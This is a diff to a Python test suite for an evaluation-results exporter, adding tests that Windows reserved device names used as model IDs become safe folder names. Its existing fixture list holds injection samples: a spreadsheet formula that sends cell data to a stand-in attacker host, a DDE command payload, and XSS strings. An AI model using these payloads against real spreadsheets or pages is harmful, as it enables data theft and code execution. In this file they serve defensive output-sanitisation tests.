@@ -20,7 +20,8 @@ from pinocchio_eval.outputs import csv_cell, markdown_cell, terminal_safe
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "<script>alert(1)</script>",
            "a $\\x$ b", "pipe|and\nnewline", "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
-           '<img src=x onerror="alert(1)">', "\x1b[31mred\x1b[0m", "tab\tstart", "\rcr"]
+           '<img src=x onerror="alert(1)">', "\x1b[31mred\x1b[0m", "tab\tstart", "\rcr",
+           "NUL", "con.txt", "data", "Lpt9"]  # names no path component may take
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -82,6 +83,17 @@ def test_random_ids_write_and_read_back(tmp_path_factory, models):
     out = tmp_path_factory.mktemp("board")
     export(_board(models), out)
     _check_written(out, models)
+
+
+def test_reserved_names_as_model_ids_write_and_read_back(tmp_path):
+    """Windows device names and the datastore's 'data' are folder names in the Every Eval Ever
+    tree; they get an underscore there (its validator refuses them) and stay as given elsewhere."""
+    models = ["NUL", "con.txt", "data", "Lpt9", "nul/x"]
+    export(_board(models), tmp_path)
+    _check_written(tmp_path, models)
+    folders = {p.name for p in (tmp_path / "eee").rglob("*") if p.is_dir()}
+    assert {"NUL_", "con_.txt", "data_", "Lpt9_"} <= folders
+    assert not folders & {"NUL", "con.txt", "Lpt9"}
 
 
 def test_failing_format_leaves_no_partial_board(tmp_path, monkeypatch):
